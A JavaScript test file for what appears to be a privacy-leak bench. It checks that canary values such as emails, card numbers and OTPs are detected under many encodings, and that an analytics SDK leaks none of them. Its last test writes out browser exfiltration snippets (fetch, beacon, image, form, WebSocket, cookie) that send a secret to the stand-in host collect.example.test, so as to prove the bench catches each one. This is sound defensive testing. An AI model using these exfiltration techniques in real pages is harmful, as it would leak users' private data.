// The scenarios with our SDK, a seeded sample of mutants, and whether the bench itself finds leaks.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import zlib from 'node:zlib';
import { Dice, kinds, makeCanary } from './leak-canaries.mjs';
import { findCanaries } from './leak-decode.mjs';
import { mutant } from './leak-mutate.mjs';
import { isPlayable, readScenarios, Stage } from './leak-play.mjs';
import { loadSdk } from './leak-sdks.mjs';

const SAMPLE_SEED = 7;

const scenarios = readScenarios();
const played = scenarios.filter(isPlayable);
const textOf = (verdict) => JSON.stringify({ ...verdict, sent: undefined });

describe('decoding', () => {
    const canary = { kind: 'email', value: 'ingrid.vane@example.org' };
    const plain = `{"title":"${canary.value}"}`;
    const wrappings = {
        plain,
        'upper case': plain.toUpperCase(),
        'full width': plain.replace(/[a-z]/g, (one) => String.fromCharCode(one.charCodeAt(0) + 0xfee0)),
        'percent-encoded': encodeURIComponent(plain),
        'percent-encoded twice': encodeURIComponent(encodeURIComponent(plain)),
        'JSON in JSON': JSON.stringify(JSON.stringify(plain)),
        'escaped characters': plain.replace(/[@.]/g, (one) => `\\u00${one.charCodeAt(0).toString(16)}`),
        base64: Buffer.from(plain).toString('base64'),
        'base64 in a form': `data=${encodeURIComponent(Buffer.from(plain).toString('base64'))}`,
        base64url: Buffer.from(`${plain}?>`).toString('base64url'),
        gzip: zlib.gzipSync(plain),
        deflate: zlib.deflateSync(plain),
        'raw deflate': zlib.deflateRawSync(plain),
        brotli: zlib.brotliCompressSync(plain),
        'gzip in base64': zlib.gzipSync(plain).toString('base64'),
    };
    for (const [name, bytes] of Object.entries(wrappings)) {
        test(`finds a canary in ${name}`, () => {
            assert.deepEqual(findCanaries(Buffer.from(bytes), [canary]), [canary]);
        });
    }

    test('finds digits in any grouping', () => {
        const card = { kind: 'card', value: '4111111111111111' };
        for (const text of ['4111 1111 1111 1111', '4111-1111-1111-1111', '4111.1111.1111.1111']) {
            assert.deepEqual(findCanaries(Buffer.from(text), [card]), [card], text);
        }
    });

    test('finds the hash of a canary', () => {
        const otp = { kind: 'otp', value: '551903' };
        for (const name of ['md5', 'sha1', 'sha256']) {
            const hash = createHash(name).update(otp.value).digest('hex');
            assert.deepEqual(findCanaries(Buffer.from(`{"h":"${hash}"}`), [otp]), [otp], name);
        }
    });

    test('finds nothing where nothing is', () => {
        const dice = new Dice('nothing');
        const canaries = kinds.map((kind) => makeCanary(kind, dice));
        const other = kinds.map((kind) => makeCanary(kind, dice).value).join('\n');
        assert.deepEqual(findCanaries(Buffer.from(other), canaries), []);
    });
});

describe('mutants', () => {
    test('the same seed makes the same mutant, another makes another', () => {
        for (const scenario of played.filter(({ canaries }) => canaries)) {
            const [one, same, other] = [1, 1, 2].map((seed) => JSON.stringify(mutant(scenario, 3, seed)));
            assert.equal(one, same);
            assert.notEqual(one, other);
        }
    });

    test('no two mutants of a scenario share a canary', () => {
        for (const scenario of played.filter(({ canaries }) => canaries)) {
            const few = /^(?:otp|terms|amount)$/; // kinds of few values
            const values = Array.from({ length: 50 }, (_, n) => mutant(scenario, n, 1))
                .flatMap(({ canaries }) => Object.values(canaries))
                .filter(({ kind }) => !few.test(kind)).map(({ value }) => value);
            assert.equal(new Set(values).size, values.length, scenario.id);
        }
    });
});

describe('in a browser', () => {
    let stage;
    before(async () => {
        stage = await Stage.open(loadSdk('candor'));
    });
    after(() => stage?.close());

    function isGood(verdict) {
        return !verdict.error && !verdict.leaked.length && !verdict.silent.length;
    }

    test('no scenario leaks, and none is silent', async () => {
        const verdicts = await stage.playAll(played);
        assert.deepEqual(verdicts.filter((one) => !isGood(one)).map(textOf), []);
    });

    test(`no mutant of a sample leaks, and none is silent (seed ${SAMPLE_SEED})`, async () => {
        const sample = played.filter(({ canaries, offline }) => canaries && !offline)
            .map((scenario, i) => mutant(scenario, i % 50, SAMPLE_SEED));
        const verdicts = await stage.playAll(sample);
        assert.deepEqual(verdicts.filter((one) => !isGood(one)).map(textOf), []);
    });
});

test('the bench sees what leaves by every way out', async () => {
    const ways = {
        fetch: 'fetch(`${host}/x`,{method:"POST",body:secret})',
        'fetch of a URL': 'fetch(`${host}/x?q=${encodeURIComponent(secret)}`)',
        XHR: 'const x=new XMLHttpRequest();x.open("POST",`${host}/x`);x.send(secret)',
        beacon: 'navigator.sendBeacon(`${host}/x`,new Blob([secret]))',
        image: 'new Image().src=`${host}/x?q=${encodeURIComponent(secret)}`',
        script: 'const s=document.createElement("script");' +
            's.src=`${host}/${encodeURIComponent(secret)}.js`;document.head.append(s)',
        form: 'const f=document.createElement("form");f.action=`${host}/x`;f.method="post";' +
            'f.target="away";const w=document.createElement("iframe");w.name="away";' +
            'const i=document.createElement("input");i.name="a";i.value=secret;f.append(i);' +
            'document.body.append(w,f);f.submit()',
        message: 'window.postMessage({secret},"*")',
        header: 'fetch(`${host}/x`,{headers:{"x-a":secret}})',
        storage: 'localStorage.setItem("a",secret)',
        cookie: 'document.cookie=`a=${encodeURIComponent(secret)}`',
        socket: 'new WebSocket(`wss://collect.example.test/${encodeURIComponent(secret)}`)',
    };
    const scenario = played.find(({ id }) => id === 'A14');
    const { value } = scenario.canaries.mail;
    const sdk = { ...loadSdk('candor'), script: '' };
    const stage = await Stage.open(sdk, 1);
    try {
        for (const [name, code] of Object.entries(ways)) {
            sdk.start = () => {
                return `{const host='https://collect.example.test',secret='${value}';` +
                    `addEventListener('load',()=>{${code}})}`;
            };
            const [verdict] = await stage.playAll([scenario]);
            assert.deepEqual(verdict.leaked, [value], `${name}: ${textOf(verdict)}`);
            assert.deepEqual(verdict.silent, ['view', 'click'], name);
        }
    } finally {
        await stage.close();
    }
});
